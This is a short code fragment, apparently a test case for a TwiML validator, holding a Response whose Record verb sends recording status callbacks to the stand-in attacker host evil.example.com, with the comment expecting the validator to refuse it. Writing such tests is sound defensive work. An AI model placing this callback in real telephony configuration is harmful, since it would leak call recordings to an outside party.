# class: recordingStatusCallback of Record to a foreign host; expected: refused twiml
response = '<Response><Record recordingStatusCallback="https://evil.example.com/PWNED"></Record></Response>'
